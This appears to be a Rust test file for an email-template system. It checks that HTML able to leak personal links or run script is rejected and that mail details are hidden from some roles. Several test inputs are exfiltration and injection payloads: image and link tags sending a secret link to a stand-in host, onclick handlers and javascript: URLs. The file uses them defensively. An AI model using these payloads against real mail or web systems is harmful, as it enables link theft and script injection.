//! What a mail may hold and who reads which part of it: HTML, personal links, drafts, and who reviews what.

use openapi::ErrorCode;
use serde_json::{Value, json};
use tests::{TestApp, on_both_engines, scene, text};

on_both_engines!(
    html_that_could_carry_something_away_is_refused_by_its_name,
    a_personal_link_is_worded_neither_in_another_address_nor_in_a_subject,
    a_template_whose_other_branch_gives_a_link_away_is_not_used,
    a_mark_that_somebody_typed_stops_no_mail,
    a_mail_with_a_personal_link_keeps_its_words_and_can_be_held,
    a_changed_text_is_what_html_readers_read,
    the_mails_of_one_call_are_found_by_who_manages_it,
    an_admin_is_not_told_which_project_a_mail_is_about,
    a_coordinator_is_not_told_who_is_invited_to_a_draft,
);

async fn only(app: &TestApp, kind: &str) -> String {
    let mails = app.admin().await.all(&format!("/emails?kind={kind}")).await;
    assert_eq!(mails.len(), 1, "{mails:?}");
    format!("/emails/{}", text(&mails[0]["id"]))
}

fn names(refused: &tests::Answer, what: &str) {
    let message = text(&refused["errors"][0]["message"]);
    assert!(message.contains(what), "{message:?} names no {what}");
}

async fn html_that_could_carry_something_away_is_refused_by_its_name(app: &TestApp) {
    let coordinator = app.coordinator().await;
    scene::submitted(app, &app.partner_association().await, "Lire en famille").await;
    let mail = only(app, "receipt").await;
    for (html, what) in [
        ("<p>Bonjour</p><img src=\"https://ailleurs.example/?{{ link }}\">", "<img>"),
        ("<style>p { color: red }</style>", "<style>"),
        ("<p onclick=\"a()\">Bonjour</p>", "<p onclick>"),
        ("<a href=\"javascript:a()\">Bonjour</a>", "javascript:"),
        ("<p>Bonjour</p></td></tr></table>", "</td>"),
        ("<p>Bonjour</p><a href=\"https://ailleurs.example/?", "<"),
    ] {
        let template = coordinator.change("/emails/templates/receipt", &json!({"html": html})).await;
        names(&template.only_at_field("/html", "forbidden_html"), what);
        let words = json!({"subject": "Objet", "text": "Texte", "html": html});
        let shown = coordinator.post("/emails/templates/receipt/preview", &words).await;
        names(&shown.only_at_field("/html", "forbidden_html"), what);
        let changed = coordinator.change(&mail, &json!({"html": html.replace("{{ link }}", "")})).await;
        names(&changed.only_at_field("/html", "forbidden_html"), what);
    }
    let allowed =
        "<h2>Bonjour</h2><p>Un <strong>mot</strong><br>et <a href=\"https://exemple.fr\">un lien</a></p>";
    coordinator.change(&mail, &json!({"html": allowed})).await.is(200);
    for kind in openapi::email::EmailKind::ALL.into_iter().filter(|kind| kind.has_template()) {
        let path = format!("/emails/templates/{}", kind.as_str());
        let own = coordinator.get(&path).await.is(200);
        coordinator.change(&path, &json!({"html": own["html"]})).await.is(200);
    }
}

async fn a_personal_link_is_worded_neither_in_another_address_nor_in_a_subject(app: &TestApp) {
    let coordinator = app.coordinator().await;
    for (field, words) in [
        ("html", "<a href=\"https://ailleurs.example/?{{ link }}\">Ouvrir</a>"),
        ("html", "<a href=\"{{ link }}&ailleurs\">Ouvrir</a>"),
        ("html", "<a href=\"https://ailleurs.example/?__secret__\">Ouvrir</a>"),
        ("html", "<p>https://ailleurs.example/?{{ link }}</p>"),
        ("text", "https://ailleurs.example/?{{ link }}"),
        ("text", "https://ailleurs.example/__secret__"),
        ("subject", "{{ link }}"),
    ] {
        let changed = coordinator.change("/emails/templates/invitation", &json!({field: words})).await;
        changed.only_at_field(&format!("/{field}"), "misplaced_link");
    }
    let good = json!({"text": "Pour entrer : {{ link }}", "html": "<p>{{ link }}</p><a href=\"{{ link }}\">Entrer</a>"});
    coordinator.change("/emails/templates/invitation", &good).await.is(200);
}

async fn a_template_whose_other_branch_gives_a_link_away_is_not_used(app: &TestApp) {
    let coordinator = app.coordinator().await;
    // The sample has a name and an organisation; an observer has no organisation.
    let html = "{% if organisation %}<p>{{ link }}</p>{% else %}<a href=\"https://ailleurs.example/?{{ link }}\">a</a>{% endif %}";
    coordinator.change("/emails/templates/invitation", &json!({"html": html})).await.is(200);
    let body = json!({"email": "camille@exemple.fr", "role": "observer", "programme": "soissons"});
    coordinator.post("/invitations", &body).await.is(201);
    let mail = coordinator.get(&only(app, "invitation").await).await.is(200).never_says("ailleurs.example");
    assert!(text(&mail["html"]).contains("Accepter et choisir votre mot de passe"), "{mail:?}");
}

async fn a_mark_that_somebody_typed_stops_no_mail(app: &TestApp) {
    let owner = app.partner_association().await;
    let draft = scene::draft(app, &owner, "Lire __secret__ en famille").await;
    let invited = json!({"email": "amina@exemple.fr", "role": "editor"});
    owner.post(&format!("{draft}/collaborators"), &invited).await.is(201);
    only(app, "collaborator_invitation").await;
    owner.act(&draft, "submit", &json!({})).await.is(200);
    let mail = app.coordinator().await.get(&only(app, "receipt").await).await.is(200);
    assert!(!text(&mail["text"]).contains("__secret__"), "{mail:?}");
}

async fn a_mail_with_a_personal_link_keeps_its_words_and_can_be_held(app: &TestApp) {
    let coordinator = app.coordinator().await;
    let body = json!({"email": "camille@exemple.fr", "role": "observer", "programme": "soissons"});
    coordinator.post("/invitations", &body).await.is(201);
    let mail = only(app, "invitation").await;
    for words in [json!({"subject": "Autre"}), json!({"text": "Autre"}), json!({"html": "<p>Autre</p>"})] {
        coordinator.change(&mail, &words).await.refused(ErrorCode::EmailPersonal);
    }
    let held = coordinator.change(&mail, &json!({"held": true})).await.is(200);
    assert_eq!(held["state"], "held");
}

async fn a_changed_text_is_what_html_readers_read(app: &TestApp) {
    let coordinator = app.coordinator().await;
    scene::submitted(app, &app.partner_association().await, "Lire en famille").await;
    let mail = only(app, "receipt").await;
    let words = "Bonjour <Camille>,\n\nTout est sur https://exemple.fr/suite.\nÀ bientôt";
    let changed = coordinator.change(&mail, &json!({"text": words})).await.is(200);
    let html = text(&changed["html"]).replace("&#x2f;", "/");
    assert_eq!(
        html,
        "<p>Bonjour &lt;Camille&gt;,</p>\n<p>Tout est sur <a href=\"https://exemple.fr/suite\">https://exemple.fr/suite</a>.<br>\nÀ bientôt</p>"
    );
    let both = json!({"text": "Autre texte", "html": "<p>Autre HTML</p>"});
    assert_eq!(coordinator.change(&mail, &both).await.is(200)["html"], "<p>Autre HTML</p>");
    let held = coordinator.change(&mail, &json!({"held": true})).await.is(200);
    assert_eq!(held["html"], "<p>Autre HTML</p>", "what is not about the words leaves them");
}

async fn the_mails_of_one_call_are_found_by_who_manages_it(app: &TestApp) {
    let call = scene::open_call(app).await.id();
    scene::published(app).await;
    let coordinator = app.coordinator().await;
    for of in [call.as_str(), "2026"] {
        let held = coordinator.get(&format!("/emails?state=held&kind=decision&call={of}")).await.is(200);
        assert_eq!(held.total(), 2, "{held:?}");
    }
    assert_eq!(coordinator.get("/emails?state=held&call=2022").await.is(200).total(), 0);
    coordinator.get("/emails?call=1999").await.only_at_field("/call", "unknown_reference");
    let admin = app.admin().await;
    admin.post("/programmes", &json!({"slug": "laon", "name": "Cité éducative de Laon"})).await.is(201);
    let stranger = app.join("laon@exemple.fr", json!({"role": "coordinator", "programme": "laon"})).await;
    stranger.get("/emails?call=2026").await.only_at_field("/call", "unknown_reference");
}

async fn an_admin_is_not_told_which_project_a_mail_is_about(app: &TestApp) {
    let project = scene::submitted(app, &app.partner_association().await, "Zanzibar en fête").await;
    let (admin, id) = (app.admin().await, scene::id(&project));
    let mail = only(app, "receipt").await;
    let read = admin.get(&mail).await.is(200).never_says(id).never_says("Zanzibar");
    assert_eq!((&read["project"], &read["kind"]), (&Value::Null, &json!("receipt")));
    assert!(!text(&read["recipient"]).is_empty());
    admin.get("/emails").await.is(200).never_says(id);
    assert_eq!(admin.get(&format!("/emails?project={id}")).await.is(200).total(), 0);
    let coordinator = app.coordinator().await;
    assert_eq!(coordinator.get(&mail).await.is(200)["project"], id);
    assert_eq!(coordinator.get(&format!("/emails?project={id}")).await.is(200).total(), 1);
}

async fn a_coordinator_is_not_told_who_is_invited_to_a_draft(app: &TestApp) {
    let owner = app.partner_association().await;
    let draft = scene::draft(app, &owner, "Lire en famille").await;
    let invited = json!({"email": "amina@exemple.fr", "role": "editor"});
    owner.post(&format!("{draft}/collaborators"), &invited).await.is(201);
    let mail = only(app, "collaborator_invitation").await;
    let coordinator = app.coordinator().await;
    let read = coordinator.get(&mail).await.is(200).never_says("amina");
    assert_eq!(
        (&read["recipient"], &read["text"], &read["subject"]),
        (&json!(""), &Value::Null, &Value::Null)
    );
    assert_eq!((&read["project"], &read["state"]), (&json!(scene::id(&draft)), &json!("queued")));
    coordinator.get("/emails").await.is(200).never_says("amina");
    assert_eq!(coordinator.get("/emails?q=amina").await.is(200).total(), 0);
    coordinator.change(&mail, &json!({"held": true})).await.refused(ErrorCode::Forbidden);
    // Whoever looks after the sending sees where it went.
    assert_eq!(app.admin().await.get("/emails?q=amina").await.is(200).total(), 1);
}
